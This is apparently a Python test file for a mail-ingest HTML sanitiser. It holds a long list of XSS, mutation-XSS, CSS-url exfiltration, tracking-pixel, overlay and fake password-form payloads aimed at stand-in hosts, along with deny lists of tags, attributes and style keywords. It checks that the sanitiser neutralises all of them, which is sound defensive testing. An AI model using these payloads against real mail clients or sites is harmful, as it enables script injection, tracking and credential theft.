"""Published attacks, and tricks known from mail: nothing in what is stored or shown may act, fetch or cover the page."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

from selectolax.lexbor import LexborHTMLParser

from mail_ingest.parsing import display, html
from tests.scoreboard.row import Row, rows

FORBIDDEN_TAGS = {
    *(
        "script",
        "style",
        "link",
        "meta",
        "base",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
    ),
    *(
        "textarea",
        "select",
        "svg",
        "math",
        "video",
        "audio",
        "source",
        "track",
        "picture",
        "template",
        "noscript",
        "portal",
        "marquee",
    ),
    *(
        "xml",
        "xss",
        "bgsound",
        "layer",
        "ilayer",
        "isindex",
        "keygen",
        "dialog",
        "map",
        "area",
        "slot",
        "plaintext",
        "xmp",
        "listing",
    ),
}
FORBIDDEN_ATTRIBUTES = {
    *(
        "srcset",
        "background",
        "poster",
        "formaction",
        "action",
        "srcdoc",
        "id",
        "name",
        "ping",
        "dynsrc",
        "lowsrc",
        "longdesc",
        "usemap",
    ),
    *(
        "xlink:href",
        "manifest",
        "profile",
        "classid",
        "codebase",
        "data",
        "http-equiv",
        "contenteditable",
        "autofocus",
        "accesskey",
    ),
    *("tabindex", "is", "slot", "part", "popover", "popovertarget", "download", "imagesrcset", "nonce"),
}
ACTIVE_STYLE = re.compile(
    r"url|expression|javascript|behavio|binding|position|@|\\|z-index|image|content|float|opacity|transform|animation|:\s*-\s*[.\d]",
    re.IGNORECASE,
)
LINK = re.compile(r"(?:https?://|mailto:|tel:)", re.IGNORECASE)
SHOWN = re.compile(r"(?:cid:|data:image/(?:png|jpe?g|gif|webp|bmp);base64,)", re.IGNORECASE)

TRICKS = {
    "style with a hidden expression": '<p style="width:expr/**/ession(alert(1))">x</p>',
    "style in escapes": '<p style="background:\\75\\72\\6c(https://x.example/a)">x</p>',
    "style with url": "<div style=\"background:url('https://x.example/t.gif')\">x</div>",
    "style with image-set": "<div style=\"background-image:image-set('https://x.example/t.gif' 1x)\">x</div>",
    "style with -moz-binding": '<div style="-moz-binding:url(https://x.example/x.xml#a)">x</div>',
    "style with behavior": '<div style="behavior:url(x.htc)">x</div>',
    "style with cursor": '<div style="cursor:url(https://x.example/c.cur),auto">x</div>',
    "style with list-style-image": '<ul style="list-style-image:url(https://x.example/c.png)"><li>x</ul>',
    "style with content": '<p style="content:url(https://x.example/c.png)">x</p>',
    "style broken by a new line": '<p style="background:u\nrl(https://x.example/c.png)">x</p>',
    "style in entities": '<p style="background:&#117;&#114;&#108;(https://x.example/c.png)">x</p>',
    "style sheet": "<style>body{background:url(https://x.example/t.gif)}</style>x",
    "style sheet by import": "<style>@import 'https://x.example/x.css';</style>x",
    "style sheet by link": '<link rel="stylesheet" href="https://x.example/x.css">x',
    "font by link": '<link rel="preload" as="font" href="https://x.example/x.woff">x',
    "prefetched name": '<link rel="dns-prefetch" href="//id.x.example">x',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    "overlay by margin": '<div style="margin-left:-2000px;margin-top:-900px;width:4000px">x</div>',
    "overlay by transform": '<div style="transform:scale(50)">x</div>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">x',
    "cookie by meta": '<meta http-equiv="set-cookie" content="a=b">x',
    "policy by meta": '<meta http-equiv="content-security-policy" content="default-src *">x',
    "base": '<base href="https://x.example/"><a href="/login">log in</a>',
    "form": '<form action="https://x.example"><input name=password type=password><input type=submit></form>',
    "button elsewhere": '<button formaction="javascript:alert(1)" form=f>x</button>',
    "is a form by css": '<input style="position:absolute" autofocus onfocus=alert(1)>',
    "srcset": '<img srcset="https://x.example/a.png 1x, https://x.example/b.png 2x">',
    "picture": '<picture><source srcset="https://x.example/a.png"><img src="https://x.example/b.png"></picture>',
    "background of the body": '<body background="https://x.example/a.png">x</body>',
    "background of a cell": '<table background="https://x.example/a.png"><tr><td background="https://x.example/b.png">x</table>',
    "tracking pixel": '<img src="https://x.example/t?id=1" width=1 height=1>',
    "tracking pixel without a scheme": '<img src="//x.example/t?id=1">',
    "tracking pixel with blanks": '<img src=" \t\nhttps://x.example/t?id=1">',
    "tracking pixel in capitals": '<IMG SRC="HTTPS://x.example/t">',
    "tracking pixel over ftp": '<img src="ftp://x.example/t.png">',
    "tracking sound": '<bgsound src="https://x.example/t.wav"><audio autoplay src="https://x.example/t.wav"></audio>',
    "tracking film": '<video poster="https://x.example/t.png" src="https://x.example/t.mp4"></video>',
    "tracking by input": '<input type=image src="https://x.example/t.png">',
    "tracking by ping": '<a href="https://x.example" ping="https://y.example">x</a>',
    "tracking by vml": '<v:rect><v:fill src="https://x.example/t.png"/></v:rect>',
    "tracking in a conditional comment": '<!--[if mso]><img src="https://x.example/t.png"><![endif]-->x',
    "tracking in a revealed comment": '<!--[if !mso]><!--><img src="https://x.example/t.png"><!--<![endif]-->x',
    "own marks of ours": '<img data-remote-src="javascript:alert(1)"><span class="remote-image" onclick="x">x</span>',
    "remote source that is none": '<img data-remote-src="https://x.example/a.png&quot; onerror=&quot;alert(1)">',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg with animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "svg by use": '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "svg with a foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "svg as a picture": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "mathml": '<math><mtext href="javascript:alert(1)" xlink:href="javascript:alert(1)">x</mtext></math>',
    "mathml with an action": '<math><maction actiontype="statusline#https://x.example" xlink:href="javascript:alert(1)">x</maction></math>',
    "mutation by mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by noembed": '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "mutation by template": '<template><p title="</template><img src=x onerror=alert(1)>">',
    "mutation by textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "mutation by title": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "mutation by xmp": '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "mutation by select": "<select><style></select><svg/onload=alert(1)></style>",
    "mutation by svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by desc": '<svg><desc><svg><image><a><desc><style><a id="</style><img src=x onerror=alert(1)>"></a>',
    "mutation by form nesting": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation by comment end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "mutation by cdata": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "mutation by processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
    "attribute without quotes": "<img/src=x/onerror=alert(1)//>",
    "attribute by backtick": "<img src=`x`onerror=alert(1)>",
    "attribute after NUL": "<img src=x on\x00error=alert(1)>",
    "tag after NUL": "<scr\x00ipt>alert(1)</script>",
    "tag in a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "tag in capitals": "<ScRiPt/ >alert(1)</sCrIpT >",
    "unclosed tag": "x<img src=x onerror=alert(1) ",
    "link with entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "link with long entities": '<a href="&#0000106avascript&#x0000000003a;alert(1)">x</a>',
    "link with named entities": '<a href="java&Tab;scr&NewLine;ipt&colon;alert(1)">x</a>',
    "link with blanks": '<a href=" \x01javascript:alert(1)">x</a>',
    "link with data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link with data and a comma": '<a href="data:,alert(1)">x</a>',
    "link with vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link with blob": '<a href="blob:https://x.example/1">x</a>',
    "link with file": '<a href="file:///etc/passwd">x</a>',
    "link with a program": '<a href="ms-word:ofe|u|https://x.example/x.docx">x</a><a href="search-ms:query=x">x</a>',
    "link of another base": '<a href="//x.example">x</a><a href="\\\\x.example\\share">x</a>',
    "link over a map": '<img usemap="#m" src="cid:a"><map name=m><area shape=default href="javascript:alert(1)"></map>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=javascript:alert(1)></frameset>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
    "clobbering": '<a id=defaultView name=querySelector href="https://x.example">x</a><img name=body>',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "events without end": "<p onpointerrawupdate=a() onbeforematch=b() onscrollend=c() ONCLICK=d()>x</p>",
    "custom element": '<x-a onclick=alert(1) style="position:fixed" contenteditable autofocus onfocus=alert(1)>x</x-a>',
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "wide signs": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "direction marks": '<a href="https://x.example/\u202efdp.exe">\u202egpj.exe</a>',
}


@rows
def vectors(corpora: Path) -> Iterator[Row]:
    """One case a vector. Judged by two parsers, neither of which sanitised."""
    for name in ("bleach_vectors", "zammad_html_sanitizer_vectors"):
        found = json.loads((corpora / "xss" / f"{name}.json").read_text())["vectors"]
        wrong = tuple(
            f"{number}: {vector['input'][:60]!r}" for number, vector in enumerate(found, 1) if faults(vector["input"])
        )
        yield Row(f"xss: {name}", len(found), wrong, 1.0)
    strings = json.loads((corpora / "naughty_strings/blns.json").read_text())
    yield Row("xss: naughty strings", len(strings), tuple(text[:60] for text in strings if faults(text)), 1.0)
    yield Row(
        "xss: tricks known from mail", len(TRICKS), tuple(name for name, text in TRICKS.items() if faults(text)), 1.0
    )


def faults(source: str) -> list[str]:
    """What is active in what we store of `source` and in what we show of that, with remote pictures and without."""
    stored = html.read(source).safe
    shown = display.show_html(stored, remote_images=False, inline=lambda _id: "data:image/png;base64,AAAA")
    loaded = display.show_html(stored, remote_images=True, inline=lambda _id: "javascript:alert(1)")
    return [*active(stored), *active(html.sanitise(source)), *active(shown), *active(loaded, may_load=True)]


def active(safe: str, *, may_load: bool = False) -> list[str]:
    """What a browser would do by itself, or would do wrong on a click."""
    tokens = _Tokens()
    tokens.feed(safe)
    tokens.close()
    tree = [(node.tag or "", dict(node.attributes)) for node in LexborHTMLParser(safe).css("*")]
    # A second reading of what the first one wrote: mutations show there.
    again = LexborHTMLParser(LexborHTMLParser(safe).html or "")
    tree += [(node.tag or "", dict(node.attributes)) for node in again.css("*")]
    found = [
        fault for tag, attributes in (*tokens.seen, *tree) for fault in _faults_of(tag, attributes, may_load=may_load)
    ]
    return found + tokens.odd


class _Tokens(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.odd.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.odd.append(f"instruction {data}")


def _faults_of(tag: str, attributes: dict[str, str | None], *, may_load: bool) -> Iterator[str]:
    if tag in FORBIDDEN_TAGS or not re.fullmatch(r"[a-z][a-z0-9]*", tag):
        yield f"<{tag}>"
    for name, value in attributes.items():
        text = (value or "").strip()
        if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
            yield f"{tag} {name}"
        if name == "class" and (tag, text) != ("span", display.PLACEHOLDER_CLASS):
            yield f"{tag} class {text}"
        if name == "href" and not LINK.match(text):
            yield f"{tag} href {text}"
        if name == "src" and not (SHOWN.match(text) or (may_load and re.match(r"https?://", text, re.IGNORECASE))):
            yield f"{tag} src {text}"
        if name == "style" and ACTIVE_STYLE.search(text):
            yield f"{tag} style {text}"
        if name == display.REMOTE_MARK and not re.match(r"(?:https?:)?//", text, re.IGNORECASE):
            yield f"{tag} {name} {text}"
    if (
        tag == "a"
        and "href" in attributes
        and (attributes.get("target"), attributes.get("rel")) != ("_blank", "noopener noreferrer nofollow")
    ):
        yield "a link that opens here"
